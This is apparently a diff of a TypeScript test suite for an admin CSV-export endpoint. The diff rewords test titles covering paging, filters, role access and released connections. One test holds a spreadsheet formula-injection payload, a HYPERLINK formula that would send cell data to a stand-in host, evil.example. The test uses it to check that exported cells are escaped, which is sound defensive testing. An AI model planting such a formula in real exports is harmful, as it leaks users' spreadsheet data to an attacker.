@@ -33,7 +33,7 @@ const list = async (orderName: QueueName, query: Record<string, unknown> = {}) =
 const asText = (row: OrderRow) =>
   Object.fromEntries(exportFields.map((field) => [field, row[field] === null ? '' : String(row[field])]))
 
-test('is a UTF-8 attachment with the fields of a list row', async () => {
+test('an export is a UTF-8 attachment with the fields of a list row', async () => {
   const orderId = await takeIn(app, { arrival_full_name: 'Nguyễn Thị Ánh Tuyết 王' })
   const { http, headers, bytes, rows } = await csv('newOrder', { limit: '1' })
   expect(http).toBe(200)
@@ -46,12 +46,12 @@ test('is a UTF-8 attachment with the fields of a list row', async () => {
   ])
 })
 
-test.each(queueNames)('%s: exports every row of the list in its order', async (queue) => {
+test.each(queueNames)('exporting %s gives every row of the list in its order', async (queue) => {
   const rows = await list(queue)
   expect((await csv(queue)).rows).toEqual(rows.map(asText))
 })
 
-test('a failure before the first row is answered as any other', async () => {
+test('a failure before the first row is answered as an error', async () => {
   const { db } = app.platform
   const holder = await db.startTransaction().execute()
   await sql`lock table orders in access exclusive mode`.execute(holder)
@@ -72,26 +72,26 @@ test('a failure before the first row is answered as any other', async () => {
 })
 
 describe('parameters', () => {
-  test('page, limit and its alias give that page', async () => {
+  test('page, limit and perPage export that page', async () => {
     const page = (await list('completedOrder', { page: 3, limit: 20 })).map((row) => row.order_id)
     expect(ids((await csv('completedOrder', { page: '3', limit: '20', delay: '1' })).rows)).toEqual(page)
     expect(ids((await csv('completedOrder', { page: '3', perPage: '20' })).rows)).toEqual(page)
   })
 
-  test('sort, order and filter are the list’s', async () => {
+  test('sort, order and filter work as in the list', async () => {
     const query = { sort: 'travel_date', order: 'asc', 'filter[process_month]': '2026-12' }
     const rows = await list('completedOrder', query)
     expect(rows.length).toBeGreaterThan(10)
     expect(ids((await csv('completedOrder', query)).rows)).toEqual(rows.map((row) => row.order_id))
   })
 
-  test('month gives one month of future orders', async () => {
+  test('month exports one month of future orders', async () => {
     const orderId = await takeIn(app, { arrival_doa: '2027-03-20' })
     await takeIn(app, { arrival_doa: '2027-04-20' })
     expect(ids((await csv('futureOrder', { month: '3' })).rows)).toEqual([orderId])
   })
 
-  test('searchVal gives what the search finds; start and end its rows', async () => {
+  test('searchVal exports the search results, start and end a range of them', async () => {
     const searchVal = 't12'
     const found = async (start: number, end: number) => {
       const body = { searchVal, folderName: 'completedOrder' as const, start, end }
@@ -113,7 +113,7 @@ describe('parameters', () => {
     ['allOrder', 'month=3', 'Only future orders are listed by month.'],
     ['allOrder', 'filter[password]=x', 'Orders cannot be filtered by password.'],
     ['secretOrder', '', 'Unknown order list.'],
-  ])('%s?%s: 400 %s', async (queue, query, message) => {
+  ])('%s?%s answers 400 %s', async (queue, query, message) => {
     const response = await fetch(`${app.url}/api/admin/export/${queue}?${query}`, {
       headers: { authorization: token },
     })
@@ -122,7 +122,7 @@ describe('parameters', () => {
   })
 })
 
-test('cells that a spreadsheet would work out are made harmless', async () => {
+test('cells that a spreadsheet would evaluate are escaped', async () => {
   const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
   await takeIn(app, {
     arrival_full_name: attack,
@@ -139,7 +139,7 @@ test('cells that a spreadsheet would work out are made harmless', async () => {
   })
 })
 
-test('My Orders exports the caller’s own', async () => {
+test("exporting My Orders gives the caller's own orders", async () => {
   const { name, email } = await app.addMember('Sri Single', 'Night Staff')
   const own = await app.signInWith(email)
   const orderId = await takeIn(app)
@@ -149,7 +149,7 @@ test('My Orders exports the caller’s own', async () => {
   expect(rows[0]).toMatchObject({ assign_to: name })
 })
 
-test('every role exports queues, Order History all but Telecaller; nobody without a session', async () => {
+test('every role may export queues, all but Telecaller Order History, and nobody without a session', async () => {
   for (const role of roles) {
     const as = await app.signInAs(role)
     expect((await csv('priorityOrder', { limit: '1' }, as)).http, role).toBe(200)
@@ -171,7 +171,7 @@ const readAndLeave = (orderName: QueueName) =>
     asked.on('error', reject).end()
   })
 
-test('readers who leave in the middle give their connections back', async () => {
+test('aborted exports release their database connections', async () => {
   await fillManyOrders(app.platform.db, 5000, 6_000_000)
   // More than there are connections.
   for (let reader = 0; reader < 20; reader++) await readAndLeave('allOrder')
